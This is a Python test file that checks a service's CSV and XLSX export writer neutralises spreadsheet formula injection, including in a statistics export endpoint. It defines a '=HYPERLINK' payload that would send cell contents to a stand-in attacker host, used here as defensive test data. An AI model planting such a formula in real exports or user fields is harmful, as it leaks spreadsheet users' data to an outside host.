"""The one tabular writer: formula-like text is defused in every export, CSV and XLSX alike."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from service_app.common.tabular import FORMULA_START, Sheet, write_csv, write_xlsx
from tests.factories import CadreFactory, LinkFactory, UserFactory
from tests.factories_stats import ProblemFactory
from tests.helpers import auth_headers

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"查看详情")'


def _xlsx_cells(data: bytes, sheet: str | None = None):
    workbook = load_workbook(io.BytesIO(data))
    worksheet = workbook[sheet] if sheet else workbook.worksheets[0]
    return [cell for row in worksheet.iter_rows() for cell in row]


@pytest.mark.parametrize("start", FORMULA_START)
def test_writer_defuses_every_formula_start(start):
    text = f"{start}1+2"
    sheet = Sheet(title="t", headers=["名称", "数量"], rows=[[text, -3]])
    rows = list(csv.reader(io.StringIO(write_csv([sheet]).decode("utf-8-sig"), newline="")))
    assert rows == [["名称", "数量"], ["'" + text, "-3"]]  # numbers stay numbers
    cell = load_workbook(io.BytesIO(write_xlsx([sheet]))).worksheets[0]["A2"]
    assert (cell.data_type, cell.value.endswith("1+2")) == ("s", True)


def test_xlsx_replaces_control_characters_xml_cannot_hold():
    sheet = Sheet(title="t", headers=["名称"], rows=[["甲\x00乙\x1b"]])
    assert load_workbook(io.BytesIO(write_xlsx([sheet]))).worksheets[0]["A2"].value == "甲\ufffd乙\ufffd"
    assert write_csv([sheet]).decode("utf-8-sig").splitlines()[1] == "甲\x00乙\x1b"


def test_statistics_export_defuses_a_formula_in_a_user_name(client, app_ctx):
    cadre = CadreFactory(name=HYPERLINK)
    ProblemFactory(enterprise=LinkFactory(cadre=cadre).enterprise)
    headers = auth_headers(client, UserFactory())

    exported = client.get("/api/v1/stats/export", query_string={"format": "csv"}, headers=headers)
    assert exported.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(exported.data.decode("utf-8-sig"), newline="")) for cell in row]
    assert "'" + HYPERLINK in cells
    assert not any(
        cell.startswith(FORMULA_START) for cell in cells if cell and not cell.lstrip("-").replace(".", "").isdigit()
    )

    exported = client.get("/api/v1/stats/export", query_string={"format": "xlsx"}, headers=headers)
    assert exported.status_code == 200
    (cell,) = [cell for cell in _xlsx_cells(exported.data, "按联企干部") if cell.value == HYPERLINK]
    assert cell.data_type == "s"  # stored as text: a spreadsheet shows it, never runs it
